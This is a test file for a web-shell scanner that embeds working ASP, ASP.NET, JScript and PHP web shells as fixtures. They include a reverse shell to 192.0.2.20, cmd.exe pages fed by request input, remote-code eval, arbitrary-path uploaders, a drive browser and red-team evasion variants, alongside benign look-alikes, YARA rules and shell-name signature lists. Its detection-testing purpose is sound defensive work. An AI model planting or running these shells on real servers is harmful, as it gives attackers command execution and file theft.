import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createScanner, squeezeSpace } from './scanner.js';

// The misses of session 29's held-out set U, looked at after its first scan (the figures in docs/scan.md
// are that scan's), each technique written again by us: the set stays outside the project. Beside each,
// code of the same shape that is not a shell.
const scanner = createScanner({});
const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'latin1'), path);

// [what, the rule that must be among the findings, the verdict, path, the file]
const FLAGGED: [string, string, 'malicious' | 'suspicious', string, string][] = [
  ['an ASP.NET page running cmd.exe with a command of its own and writing its output (recon)', 'mamori_aspx_cmd_output', 'suspicious', '/www/t.aspx', `<%@ Page Language="C#" %>
<% var si = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c whoami /all") { UseShellExecute = false, RedirectStandardOutput = true };
   var pr = System.Diagnostics.Process.Start(si); Response.Write(pr.StandardOutput.ReadToEnd()); %>`],
  ['an ASP.NET page writing decoded code over itself, compiling it with BuildManager, then putting its text back', 'mamori_aspx_self_rewrite_compile', 'malicious', '/www/s.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %><%@ Import Namespace="System.Web.Compilation" %>
<%
string me = Request.PhysicalPath, old = File.ReadAllText(me);
string code = System.Text.Encoding.UTF8.GetString(Convert.FromBase64String("PCVAIFBhZ2UgJT4="));
File.WriteAllText(me, code);
var page = (Page)BuildManager.CreateInstanceFromVirtualPath(Request.FilePath, typeof(Page));
File.WriteAllText(me, old);
page.ProcessRequest(Context);
%>`],
  ['an ASP.NET page saving the posted file to the path a form field gives whole', 'mamori_aspx_upload_to_request_path', 'malicious', '/www/d.aspx', `<%@ Page Language="C#" %>
<% var f = Request.Files["blob"]; if (f != null && Request.Form["where"] != null) { f.SaveAs(Request.Form["where"]); Response.Write("ok"); } %>
<form method="post" enctype="multipart/form-data"><input type="file" name="blob"><input name="where"><button>go</button></form>`],
  ['the same with the path held in a variable first (the flow layer writes it in)', 'mamori_aspx_upload_to_request_path', 'malicious', '/www/d2.aspx', `<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object o, EventArgs e) { string target = Request.QueryString["to"]; if (Request.Files.Count > 0) Request.Files[0].SaveAs(target); }
</script>`],
  ['a classic ASP file browser: the drives listed, any folder of the query string, any file sent', 'mamori_asp_fso_drive_browser', 'malicious', '/www/b.asp', `<%
Set fs = CreateObject("Scripting.FileSystemObject")
If Request.QueryString("get") <> "" Then
  Set st = CreateObject("ADODB.Stream") : st.Type = 1 : st.Open : st.LoadFromFile Request.QueryString("get")
  Response.BinaryWrite st.Read : Response.End
End If
For Each dv In fs.Drives : Response.Write dv.DriveLetter & ":\\ " : Next
dir = Request.QueryString("dir") : If dir = "" Then dir = Server.MapPath(".")
For Each f In fs.GetFolder(dir).Files : Response.Write "<a href='?get=" & Server.URLEncode(f.Path) & "'>" & f.Name & "</a><br>" : Next
%>`],
  ['a page carrying the name of a public planting kit (Laudanum)', 'mamori_web_laudanum_kit', 'malicious', '/www/x.jsp', `<%-- Laudanum Project: A Collection of Injectable Files used during a Penetration Test --%>
<%@ page import="java.io.*" %><% out.print("ready"); %>`],
  ['a small PHP file fetching code from a URL and running it as a page', 'mamori_php_remote_code_eval', 'malicious', '/www/l.php', `<?php
$src = 'https://files.example.invalid/pack/a.txt';
$body = @file_get_contents($src);
if (!$body && function_exists('curl_init')) { $c = curl_init($src); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); $body = curl_exec($c); }
if (strlen($body) > 0) eval('?>' . $body);`],
  ['a PHP command function called by a name joined from an array of escaped characters', 'mamori_php_joined_name_call', 'malicious', '/www/v.php', `<?php
$parts = array("\\x73", "\\x79", "\\x73", "\\x74", "\\x65", "\\x6d");
implode('', $parts)($_GET['q']);`],
  ['a JScript page running WScript.Shell\'s Exec of Request.Params and writing its output', 'mamori_asp_wscript_shell', 'malicious', '/www/c.aspx', `<script language="JScript" runat="server">
function Page_Load() { var sh = new ActiveXObject("WScript.Shell"); Response.Write(sh.Exec("cmd /c " + Request.Params["q"]).StdOut.ReadAll()); }
</script>`],
  // (set W, collected from a earlier collector's leads after U and V: its two misses)
  ['an ASP.NET reverse shell running each line the socket sends as cmd.exe /c + line and writing the output back', 'mamori_aspx_socket_shell', 'malicious', '/www/r.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %><%@ Import Namespace="System.Text" %><%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
void Page_Load(object o, EventArgs e) {
  using (var c = new TcpClient("192.0.2.20", 8443)) using (var ns = c.GetStream()) {
    var buf = new byte[4096]; int n;
    while ((n = ns.Read(buf, 0, buf.Length)) > 0) {
      var line = Encoding.UTF8.GetString(buf, 0, n);
      var p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Arguments = "/c " + line;
      p.StartInfo.UseShellExecute = false; p.StartInfo.RedirectStandardOutput = true; p.Start();
      var res = Encoding.UTF8.GetBytes(p.StandardOutput.ReadToEnd());
      ns.Write(res, 0, res.Length);
    }
  }
}
</script>`],
  ['a PHP page answering ls, cd, rm, mkdir, touch and download sent in a form with file operations of its own', 'mamori_php_pseudo_terminal', 'malicious', '/www/t.php', `<?php
session_start();
$words = explode(' ', trim($_POST['line'] ?? ''));
$verb = array_shift($words); $arg = implode(' ', $words);
$cwd = $_SESSION['cwd'] ?? getcwd();
switch ($verb) {
  case 'ls': echo implode("\n", scandir($cwd)); break;
  case 'cd': if (is_dir("$cwd/$arg")) $_SESSION['cwd'] = realpath("$cwd/$arg"); break;
  case 'rm': unlink("$cwd/$arg"); break;
  case 'mkdir': mkdir("$cwd/$arg"); break;
  case 'touch': touch("$cwd/$arg"); break;
  case 'download': header('Content-Disposition: attachment'); readfile("$cwd/$arg"); exit;
}`],
];

// [what, path, the file]: the same shapes, not shells.
const BENIGN: [string, string, string][] = [
  ['an ASP.NET status page running ping.exe and writing its output', '/www/admin/ping.aspx', `<%@ Page Language="C#" %>
<% var si = new System.Diagnostics.ProcessStartInfo("ping.exe", "-n 1 db.internal") { UseShellExecute = false, RedirectStandardOutput = true };
   var pr = System.Diagnostics.Process.Start(si); Response.Write(Server.HtmlEncode(pr.StandardOutput.ReadToEnd())); %>`],
  ['an ASP.NET page compiling a page of its own by virtual path (no file written)', '/www/host.aspx', `<%@ Page Language="C#" %>
<% var p = (Page)System.Web.Compilation.BuildManager.CreateInstanceFromVirtualPath("~/parts/menu.aspx", typeof(Page)); p.ProcessRequest(Context); %>`],
  ['an upload saved under a name of its own in its own folder', '/www/upload.aspx', `<%@ Page Language="C#" %>
<% var f = Request.Files["doc"]; if (f != null) f.SaveAs(Server.MapPath("~/App_Data/in/") + Guid.NewGuid().ToString("N") + ".pdf"); %>`],
  ['a classic ASP page listing the files of its own folder', '/www/list.asp', `<%
Set fs = CreateObject("Scripting.FileSystemObject")
For Each f In fs.GetFolder(Server.MapPath("docs")).Files : Response.Write f.Name & "<br>" : Next
%>`],
  ['a template engine running its compiled templates with eval(\'?>\'), a link in its docblock', '/www/lib/Tpl.php', `<?php
/** A small template engine. See 'https://example.invalid/docs' for the syntax. */
class Tpl {
  const HOME = 'https://example.invalid/';
  public function render(string $file, array $vars): string {
    $compiled = $this->compile(file_get_contents($file));
    extract($vars); ob_start(); eval('?>' . $compiled); return ob_get_clean();
  }
  private function compile(string $t): string { return preg_replace('/\\{\\{\\s*(\\w+)\\s*\\}\\}/', '<?= htmlspecialchars($$1) ?>', $t); }
}`],
  ['PHP joining pieces into a string that is not called', '/www/csv.php', `<?php
$cells = array('a', 'b', 'c');
echo implode('', $cells) . "\\n";`],
];

// The red team's variants of the set-U rules that are caught now (bench/redteam/README-s29u.md), as it
// wrote them: [what, the rule, the verdict, path, the file]
const RED_TEAM: [string, string, 'malicious' | 'suspicious', string, string][] = [
  ['S29U-18: cmd_async.aspx', 'mamori_aspx_cmd_output', 'suspicious', '/www/cmd_async.aspx', `<%@ Page Language="C#" Async="true" %>
<script runat="server">
protected async void Page_Load(object s, EventArgs e)
{
    var si = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c whoami /all & net user") { UseShellExecute = false, RedirectStandardOutput = true };
    var pr = System.Diagnostics.Process.Start(si);
    Response.Write(await pr.StandardOutput.ReadToEndAsync());
}
</script>
`],
  ['S29U-17: cmd_encode.aspx', 'mamori_aspx_cmd_output', 'suspicious', '/www/cmd_encode.aspx', `<%@ Page Language="C#" %>
<% var si = new System.Diagnostics.ProcessStartInfo("powershell", "-nop -c \\"whoami /priv; Get-LocalUser; Get-NetIPConfiguration\\"") { UseShellExecute = false, RedirectStandardOutput = true };
   var pr = System.Diagnostics.Process.Start(si); Response.Write(Server.HtmlEncode(pr.StandardOutput.ReadToEnd())); %>
`],
  ['S29U-14: cmd_filename_prop.aspx', 'mamori_aspx_cmd_output', 'suspicious', '/www/cmd_filename_prop.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
void Page_Load(object s, EventArgs e)
{
    var p = new Process();
    p.StartInfo.FileName = "cmd.exe";
    p.StartInfo.Arguments = "/c whoami /all & ipconfig /all & net user & net localgroup administrators";
    p.StartInfo.UseShellExecute = false;
    p.StartInfo.RedirectStandardOutput = true;
    p.Start();
    Response.Write(p.StandardOutput.ReadToEnd());
}
</script>
`],
  ['S29U-15: cmd_fullpath.aspx', 'mamori_aspx_cmd_output', 'suspicious', '/www/cmd_fullpath.aspx', `<%@ Page Language="C#" %>
<% var si = new System.Diagnostics.ProcessStartInfo(@"C:\\Windows\\System32\\cmd.exe", "/c whoami /all & systeminfo") { UseShellExecute = false, RedirectStandardOutput = true };
   var pr = System.Diagnostics.Process.Start(si); Response.Write(pr.StandardOutput.ReadToEnd()); %>
`],
  ['S29U-16: cmd_outvar.aspx', 'mamori_aspx_cmd_output', 'suspicious', '/www/cmd_outvar.aspx', `<%@ Page Language="C#" %>
<% var si = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c whoami /all & systeminfo") { UseShellExecute = false, RedirectStandardOutput = true };
   var pr = System.Diagnostics.Process.Start(si); string o = pr.StandardOutput.ReadToEnd(); Response.Write("<pre>" + o + "</pre>"); %>
`],
  ['S29U-32: fso_jscript.asp', 'mamori_asp_fso_drive_browser', 'malicious', '/www/fso_jscript.asp', `<%@ Language="JScript" %>
<%
var fs = Server.CreateObject('Scripting.FileSystemObject');
var get = String(Request.QueryString('get'));
if (get != 'undefined' && get != '') {
  var st = Server.CreateObject('ADODB.Stream'); st.Type = 1; st.Open(); st.LoadFromFile(get);
  Response.BinaryWrite(st.Read()); Response.End();
}
for (var e = new Enumerator(fs.Drives); !e.atEnd(); e.moveNext()) Response.Write(e.item().DriveLetter + ':\\\\ ');
var dir = String(Request.QueryString('dir')); if (dir == 'undefined' || dir == '') dir = Server.MapPath('.');
for (var e2 = new Enumerator(fs.GetFolder(dir).Files); !e2.atEnd(); e2.moveNext()) { var f = e2.item(); Response.Write("<a href='?get=" + Server.URLEncode(f.Path) + "'>" + f.Name + '</a><br>'); }
%>
`],
  ['S29U-33: fso_qitem.asp', 'mamori_asp_fso_drive_browser', 'malicious', '/www/fso_qitem.asp', `<%
Set fs = CreateObject("Scripting.FileSystemObject")
If Request.QueryString.Item("get") <> "" Then
  Set st = CreateObject("ADODB.Stream") : st.Type = 1 : st.Open : st.LoadFromFile Request.QueryString.Item("get")
  Response.BinaryWrite st.Read : Response.End
End If
For Each dv In fs.Drives : Response.Write dv.DriveLetter & ":\\ " : Next
dir = Request.QueryString.Item("dir") : If dir = "" Then dir = Server.MapPath(".")
For Each f In fs.GetFolder(dir).Files : Response.Write "<a href='?get=" & Server.URLEncode(f.Path) & "'>" & f.Name & "</a><br>" : Next
%>
`],
  ['S29U-36: rce_arrayurl.php', 'mamori_php_remote_code_eval', 'malicious', '/www/rce_arrayurl.php', `<?php
$cfg['src'] = 'https://files.example.invalid/pack/a.txt';
$body = @file_get_contents($cfg['src']);
if (strlen($body) > 0) eval('?>' . $body);
`],
  ['S29U-35: rce_define.php', 'mamori_php_remote_code_eval', 'malicious', '/www/rce_define.php', `<?php
define('PACK_SRC', 'https://files.example.invalid/pack/a.txt');
$body = @file_get_contents(PACK_SRC);
if (strlen($body) > 0) eval('?>' . $body);
`],
  ['S29U-37: rce_file.php', 'mamori_php_remote_code_eval', 'malicious', '/www/rce_file.php', `<?php
$src = 'https://files.example.invalid/pack/a.txt';
$body = implode('', (array) @file($src));
if (strlen($body) > 0) eval('?>' . $body);
`],
  ['S29U-38: rce_readfile.php', 'mamori_php_remote_code_eval', 'malicious', '/www/rce_readfile.php', `<?php
$src = 'https://files.example.invalid/pack/a.txt';
ob_start(); readfile($src); $body = ob_get_clean();
if (strlen($body) > 0) eval('?>' . $body);
`],
  ['S29U-39: rce_splfile_ns.php', 'mamori_php_remote_code_eval', 'malicious', '/www/rce_splfile_ns.php', `<?php
$src = 'https://files.example.invalid/pack/a.txt';
$body = '';
foreach (new \\SplFileObject($src) as $line) $body .= $line;
if (strlen($body) > 0) eval('?>' . $body);
`],
  ['S29U-50: tiny_combine.aspx', 'mamori_asp_tiny_uploader', 'suspicious', '/www/tiny_combine.aspx', `<%@ Page Language="C#" %>
<% if (Request.Files.Count > 0) { var f = Request.Files[0]; f.SaveAs(System.IO.Path.Combine(".", f.FileName)); Response.Write("ok"); } %>
<form method="post" enctype="multipart/form-data"><input type="file" name="f"><button>up</button></form>
`],
  ['S29U-49: tiny_verbatim.aspx', 'mamori_asp_tiny_uploader', 'suspicious', '/www/tiny_verbatim.aspx', `<%@ Page Language="C#" %>
<% if (Request.Files.Count > 0) { var f = Request.Files[0]; f.SaveAs(@".\\" + f.FileName); Response.Write("ok"); } %>
<form method="post" enctype="multipart/form-data"><input type="file" name="f"><button>up</button></form>
`],
  ['S29U-29: up_cookie.aspx', 'mamori_aspx_upload_to_request_path', 'malicious', '/www/up_cookie.aspx', `<%@ Page Language="C#" %>
<% var f = Request.Files["blob"]; if (f != null && f.ContentLength > 0) { f.SaveAs(Request.Cookies["where"].Value); Response.Write("ok"); } %>
<form method="post" enctype="multipart/form-data"><input type="file" name="blob"><input name="where"><button>go</button></form>
`],
  ['S29U-27: up_decode.aspx', 'mamori_aspx_upload_to_request_path', 'malicious', '/www/up_decode.aspx', `<%@ Page Language="C#" %>
<% var f = Request.Files["blob"]; if (f != null && f.ContentLength > 0) { f.SaveAs(HttpUtility.UrlDecode(Request.Form["where"])); Response.Write("ok"); } %>
<form method="post" enctype="multipart/form-data"><input type="file" name="blob"><input name="where"><button>go</button></form>
`],
  ['S29U-24: up_formget.aspx', 'mamori_aspx_upload_to_request_path', 'malicious', '/www/up_formget.aspx', `<%@ Page Language="C#" %>
<% var f = Request.Files["blob"]; if (f != null && f.ContentLength > 0) { f.SaveAs(Request.Form.Get("where")); Response.Write("ok"); } %>
<form method="post" enctype="multipart/form-data"><input type="file" name="blob"><input name="where"><button>go</button></form>
`],
  ['S29U-28: up_header.aspx', 'mamori_aspx_upload_to_request_path', 'malicious', '/www/up_header.aspx', `<%@ Page Language="C#" %>
<% var f = Request.Files["blob"]; if (f != null && f.ContentLength > 0) { f.SaveAs(Request.Headers["X-Where"]); Response.Write("ok"); } %>
<form method="post" enctype="multipart/form-data"><input type="file" name="blob"><input name="where"><button>go</button></form>
`],
  ['S29U-25: up_params_get.aspx', 'mamori_aspx_upload_to_request_path', 'malicious', '/www/up_params_get.aspx', `<%@ Page Language="C#" %>
<% var f = Request.Files["blob"]; if (f != null && f.ContentLength > 0) { f.SaveAs(Request.Params.Get("where")); Response.Write("ok"); } %>
<form method="post" enctype="multipart/form-data"><input type="file" name="blob"><input name="where"><button>go</button></form>
`],
  ['S29U-26: up_trim.aspx', 'mamori_aspx_upload_to_request_path', 'malicious', '/www/up_trim.aspx', `<%@ Page Language="C#" %>
<% var f = Request.Files["blob"]; if (f != null && f.ContentLength > 0) { f.SaveAs(Request.Form["where"].Trim()); Response.Write("ok"); } %>
<form method="post" enctype="multipart/form-data"><input type="file" name="blob"><input name="where"><button>go</button></form>
`],
  ['S29U-31: up_var_convert.aspx', 'mamori_aspx_upload_to_request_path', 'malicious', '/www/up_var_convert.aspx', `<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object o, EventArgs e) { var target = Convert.ToString(Request.QueryString["to"]); if (Request.Files.Count > 0) Request.Files[0].SaveAs(target); }
</script>
`],
];

// Its false positives of the first forms, fixed: never malicious (a fixed PowerShell status command stays
// a suspicious command page, S29U-13, and a security plugin's list of shell names was suspicious before)
const RED_TEAM_BENIGN: [string, string, string][] = [
  ['S29U-10: check_laudanum.py', '/www/check_laudanum.py', `#!/usr/bin/env python3
"""Incident-response helper: find files of the Laudanum kit left behind after a pentest."""
import os
import sys

MARKERS = (
    b"Laudanum Project",
    b"A Collection of Injectable Files used during a Penetration Test",
    b"laudanum@secureideas.net",
)
TAGS = (b"<?php", b"<%", b"<cfscript")

def suspicious(path):
    try:
        with open(path, "rb") as fh:
            data = fh.read(65536)
    except OSError:
        return False
    return any(m in data for m in MARKERS) and any(t in data for t in TAGS)

for root, _dirs, files in os.walk(sys.argv[1] if len(sys.argv) > 1 else "."):
    for name in files:
        p = os.path.join(root, name)
        if suspicious(p):
            print("leftover pentest file:", p)
`],
  ['S29U-1: diskspace.asp', '/www/diskspace.asp', `<%@ Language="VBScript" %>
<%
' Server health page for the intranet admins: free space per drive, the size of the
' site's log folders, and the tail of today's application log.
Option Explicit
If Session("IsAdmin") <> True Then Response.Redirect "/login.asp"
Dim fso, drv, fld, sub1, ts, logName, lines, showLog
Set fso = Server.CreateObject("Scripting.FileSystemObject")
Response.Write "<h2>Drives</h2><table>"
For Each drv In fso.Drives
  If drv.IsReady Then
    Response.Write "<tr><td>" & drv.DriveLetter & ":</td><td>" & FormatNumber(drv.FreeSpace / 1073741824, 1) & " GB free of " & FormatNumber(drv.TotalSize / 1073741824, 1) & " GB</td></tr>"
  End If
Next
Response.Write "</table><h2>Logs</h2><ul>"
Set fld = fso.GetFolder(Server.MapPath("/logs"))
For Each sub1 In fld.SubFolders
  Response.Write "<li>" & Server.HTMLEncode(sub1.Name) & " - " & FormatNumber(sub1.Size / 1048576, 1) & " MB</li>"
Next
Response.Write "</ul>"
showLog = Request.QueryString("showlog")
If showLog = "1" Then
  logName = Server.MapPath("/logs/app/" & Year(Date) & Right("0" & Month(Date), 2) & Right("0" & Day(Date), 2) & ".log")
  If fso.FileExists(logName) Then
    Set ts = fso.OpenTextFile(logName, 1)
    Response.Write "<pre>" & Server.HTMLEncode(ts.ReadAll) & "</pre>"
    ts.Close
  End If
End If
%>
`],
  ['S29U-6: feed_widget.php', '/www/feed_widget.php', `<?php
// Sidebar widget: the latest posts of the project blog, rendered through the theme's template.
$feedUrl = 'https://blog.example.org/feed.xml';
$cache = __DIR__ . '/cache/feed.xml';
if (!is_file($cache) || filemtime($cache) < time() - 3600) {
    $ch = curl_init($feedUrl);
    curl_setopt_array($ch, [CURLOPT_RETURNTRANSFER => true, CURLOPT_TIMEOUT => 5, CURLOPT_FOLLOWLOCATION => true]);
    $xml = curl_exec($ch);
    curl_close($ch);
    if ($xml !== false) file_put_contents($cache, $xml);
}
$items = [];
$feed = @simplexml_load_file($cache);
if ($feed) {
    foreach ($feed->channel->item as $i => $item) {
        $items[] = ['title' => (string) $item->title, 'link' => (string) $item->link];
        if (count($items) >= 5) break;
    }
}
$template = file_get_contents(__DIR__ . '/templates/feed-widget.html.php');
eval('?>' . $template);
`],
  ['S29U-8: laudanum_notes.html', '/www/laudanum_notes.html', `<!DOCTYPE html>
<html><head><title>Pentest toolkit notes - web shells</title></head>
<body>
<h1>Post-exploitation: web shells we use on engagements</h1>
<p>For authorised tests we use the <b>Laudanum Project</b> ("A Collection of Injectable Files used during a Penetration Test")
which ships in Kali under <code>/usr/share/laudanum</code>. The Laudanum PHP shell and the Laudanum ASP file browser both
need an IP allow-list edited before upload.</p>
<p>Detection tip for the blue team: the ASP files open with a classic <code>&lt;%@ Language=VBScript %&gt;</code> block:</p>
<pre>
<%@ Language=VBScript %>
<%
' Laudanum ASP Shell - check the allowedIPs list
%>
</pre>
<p>The PHP files start with <code><?php</code> and carry the kit's contact address in the header.</p>
</body></html>
`],
  ['S29U-11: pentest_cleanup.md', '/www/pentest_cleanup.md', `# Post-engagement cleanup checklist

1. Remove every file of the **Laudanum Shell** set we uploaded (see the engagement log).
2. Grep the web roots for the kit's banner, \`Laudanum Project\`, and for \`<%\` / \`<?php\` in upload folders.
3. Rotate the credentials used during the test.
`],
  ['S29U-5: plugin_update_check.php', '/www/plugin_update_check.php', `<?php
/*
Plugin Name: Simple Notice Bar
Description: Shows a dismissible notice bar at the top of the site.
Version: 1.4.2
*/
if (!defined('ABSPATH')) exit;

class Simple_Notice_Bar {
    const VERSION = '1.4.2';
    private $update_api = 'https://updates.example-plugins.com/simple-notice-bar/info.json';

    public function __construct() {
        add_action('wp_body_open', array($this, 'render'));
        add_filter('pre_set_site_transient_update_plugins', array($this, 'check_update'));
    }

    public function render() {
        $opts = get_option('snb_options', array('text' => '', 'color' => '#333'));
        $tpl = file_get_contents(__DIR__ . '/views/bar.php');
        $text = esc_html($opts['text']);
        $color = esc_attr($opts['color']);
        eval('?>' . $tpl);
    }

    public function check_update($transient) {
        if (empty($transient->checked)) return $transient;
        $resp = wp_remote_get($this->update_api, array('timeout' => 5));
        if (is_wp_error($resp)) return $transient;
        $info = json_decode(wp_remote_retrieve_body($resp));
        if ($info && version_compare($info->version, self::VERSION, '>')) {
            $transient->response[plugin_basename(__FILE__)] = (object) array(
                'slug' => 'simple-notice-bar', 'new_version' => $info->version, 'package' => $info->download_url,
            );
        }
        return $transient;
    }
}
new Simple_Notice_Bar();
`],
  ['S29U-13: ps_service_status.aspx', '/www/ps_service_status.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
    // Ops dashboard: shows the state of the site's Windows services (read-only, fixed command).
    protected void Page_Load(object sender, EventArgs e)
    {
        if (!User.IsInRole("SiteOps")) { Response.StatusCode = 403; Response.End(); }
        var si = new ProcessStartInfo("powershell.exe", "-NoProfile -Command \\"Get-Service W3SVC,WAS,MSSQLSERVER | Format-Table -AutoSize\\"")
        {
            UseShellExecute = false,
            RedirectStandardOutput = true,
            CreateNoWindow = true
        };
        using (var p = Process.Start(si))
        {
            Response.Write("<pre>");
            Response.Write(p.StandardOutput.ReadToEnd());
            Response.Write("</pre>");
            p.WaitForExit(10000);
        }
    }
</script>
<html><head><title>Service status</title></head><body></body></html>
`],
  ['S29U-7: router_join.php', '/www/router_join.php', `<?php
// Tiny front controller: ?page=about -> page_about($request)
require __DIR__ . '/pages.php';

$page = preg_replace('/[^a-z_]/', '', $_GET['page'] ?? 'home');
$handler = 'page_' . $page;
if (!function_exists($handler)) {
    http_response_code(404);
    $page = 'not_found';
}
$request = ['get' => $_GET, 'post' => $_POST, 'method' => $_SERVER['REQUEST_METHOD']];
echo join('', ['page_', $page])($request);
`],
  ['S29U-12: security_signatures.php', '/www/security_signatures.php', `<?php
/**
 * Known web shell markers for the "File Integrity" screen of this security plugin.
 * Each entry: [pattern, label]. Matched against uploaded files before they are accepted.
 */
return [
    ['/c99shell/i', 'c99 shell'],
    ['/r57shell/i', 'r57 shell'],
    ['/b374k/i', 'b374k shell'],
    ['/Laudanum (Project|PHP|Shell)/i', 'Laudanum PHP shell (pentest kit)'],
    ['/WSO\\s+\\d\\.\\d/i', 'WSO shell'],
    ['/FilesMan/', 'WSO / FilesMan'],
];
`],
  ['S29U-2: sitemap_build.aspx', '/www/sitemap_build.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<%@ Import Namespace="System.Linq" %>
<%@ Import Namespace="System.Web.Compilation" %>
<script runat="server">
    // Rebuilds sitemap.xml and robots.txt from the pages of the site. Each page's compiled type is
    // checked for the [NoIndex] marker interface; the base URL is derived from this page's own path.
    public interface INoIndex { }
    protected void Page_Load(object sender, EventArgs e)
    {
        if (!User.IsInRole("Editors")) { Response.StatusCode = 403; return; }
        string root = Server.MapPath("~/");
        string self = Request.FilePath;
        string baseUrl = Request.Url.GetLeftPart(UriPartial.Authority) + Request.ApplicationPath.TrimEnd('/');
        var urls = new System.Text.StringBuilder();
        urls.AppendLine("<?xml version=\\"1.0\\" encoding=\\"UTF-8\\"?>");
        urls.AppendLine("<urlset xmlns=\\"http://www.sitemaps.org/schemas/sitemap/0.9\\">");
        foreach (var file in Directory.GetFiles(root, "*.aspx", SearchOption.AllDirectories))
        {
            string vpath = "~/" + file.Substring(root.Length).Replace('\\\\', '/');
            if (VirtualPathUtility.ToAbsolute(vpath) == self) continue;
            Type t = BuildManager.GetCompiledType(vpath);
            if (typeof(INoIndex).IsAssignableFrom(t)) continue;
            urls.AppendLine("  <url><loc>" + baseUrl + VirtualPathUtility.ToAbsolute(vpath) + "</loc></url>");
        }
        urls.AppendLine("</urlset>");
        File.WriteAllText(Path.Combine(root, "sitemap.xml"), urls.ToString());
        File.WriteAllText(Path.Combine(root, "robots.txt"), "User-agent: *\\r\\nSitemap: " + baseUrl + "/sitemap.xml\\r\\n");
        Response.Write("Sitemap rebuilt from " + Request.PhysicalPath);
    }
</script>
`],
  ['S29U-4: tpl_powered_by.php', '/www/tpl_powered_by.php', `<?php
/**
 * MiniView: a tiny PHP template renderer for the admin area.
 */
final class MiniView
{
    private string $dir;
    private array $shared = [];

    public function __construct(string $dir)
    {
        $this->dir = rtrim($dir, '/');
        $this->shared['footer'] = 'Powered by MiniView';
    }

    public function share(string $k, $v): void { $this->shared[$k] = $v; }

    public function render(string $name, array $vars = []): string
    {
        $path = $this->dir . '/' . basename($name) . '.tpl.php';
        if (!is_file($path)) {
            throw new RuntimeException("template not found: $name");
        }
        $src = file_get_contents($path);
        // {{ x }} -> escaped echo, {!! x !!} -> raw echo
        $src = preg_replace('/\\{\\{\\s*(.+?)\\s*\\}\\}/', '<?= htmlspecialchars($1, ENT_QUOTES) ?>', $src);
        $src = preg_replace('/\\{!!\\s*(.+?)\\s*!!\\}/', '<?= $1 ?>', $src);
        extract($this->shared + $vars, EXTR_SKIP);
        ob_start();
        eval('?>' . $src);
        return ob_get_clean();
    }

    public static function credit(): string
    {
        $link = '<a href="https://github.com/example/miniview" rel="noopener">MiniView</a>';
        return "<small>Rendered with $link</small>";
    }
}
`],
  ['S29U-9: webshells_laudanum.yar', '/www/webshells_laudanum.yar', `/*
   Detection rules for the Laudanum pentest kit (defensive signature set, as shipped by
   many scanners and SIEM content packs).
*/
rule Laudanum_PHP_Shell {
   meta:
      description = "Laudanum PHP shell"
      reference = "https://sourceforge.net/projects/laudanum/"
   strings:
      $s1 = "Laudanum Project" ascii
      $s2 = "laudanum@secureideas.net" ascii
      $php = "<?php" ascii
   condition:
      $php and any of ($s*)
}

rule Laudanum_ASP_Shell {
   meta:
      description = "Laudanum ASP shell"
   strings:
      $s1 = "Laudanum ASP" ascii
      $asp = "<%" ascii
   condition:
      all of them
}
`],
];

const MEDIA: [string, string, string] = ['a media manager endpoint dispatching list, upload, delete, rename, mkdir and download actions', '/www/admin/media.php', `<?php
require __DIR__ . '/auth.php';
$dir = __DIR__ . '/media';
switch ($_POST['action'] ?? '') {
  case 'list': echo json_encode(array_values(array_diff(scandir($dir), ['.', '..']))); break;
  case 'upload': move_uploaded_file($_FILES['f']['tmp_name'], $dir . '/' . bin2hex(random_bytes(8)) . '.jpg'); break;
  case 'delete': unlink($dir . '/' . basename($_POST['name'])); break;
  case 'rename': rename($dir . '/' . basename($_POST['from']), $dir . '/' . basename($_POST['to'])); break;
  case 'mkdir': mkdir($dir . '/' . basename($_POST['name'])); break;
  case 'download': readfile($dir . '/' . basename($_POST['name'])); break;
}`];

describe('scan: held-out set U (session 29), its misses, samples of our own', () => {
  for (const [name, rule, verdict, path, src] of FLAGGED) {
    it(`${verdict}: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, verdict, JSON.stringify(r.findings));
      assert.ok(r.findings.some((f) => f.rule === rule), `${rule} not among ${r.findings.map((f) => f.rule).join(', ')}`);
    });
  }
  for (const [name, path, src] of BENIGN) {
    it(`clean: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'clean', JSON.stringify(r.findings));
    });
  }
  for (const [name, rule, verdict, path, src] of RED_TEAM) {
    it(`${verdict}: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, verdict, JSON.stringify(r.findings));
      assert.ok(r.findings.some((f) => f.rule === rule), `${rule} not among ${r.findings.map((f) => f.rule).join(', ')}`);
    });
  }
  for (const [name, path, src] of RED_TEAM_BENIGN) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'malicious', JSON.stringify(r.findings));
    });
  }
  it('a media manager dispatching list, upload, delete, rename, mkdir and download is not a pseudo-terminal (a tiny uploader at most, suspicious)', () => {
    const [, path, src] = MEDIA;
    const r = scan(src, path);
    assert.notEqual(r.verdict, 'malicious', JSON.stringify(r.findings));
    assert.ok(!r.findings.some((f) => f.rule === 'mamori_php_pseudo_terminal'), JSON.stringify(r.findings));
  });
  it('white space past 4 KB inside a call does not hide it (YARA-X reads at most 4 KB into one match): a squeezed layer, S29U-48', () => {
    const pad = ' '.repeat(5000);
    const php = scan(`<?php\n$parts = array("s", "y", "s", "t", "e", "m");\nimplode(''${pad}, $parts)($_GET['q']);`, '/www/p.php');
    assert.equal(php.verdict, 'malicious', JSON.stringify(php.findings));
    assert.ok(php.findings.some((f) => f.rule === 'mamori_php_joined_name_call' && f.layers?.includes('squeezed')), JSON.stringify(php.findings));
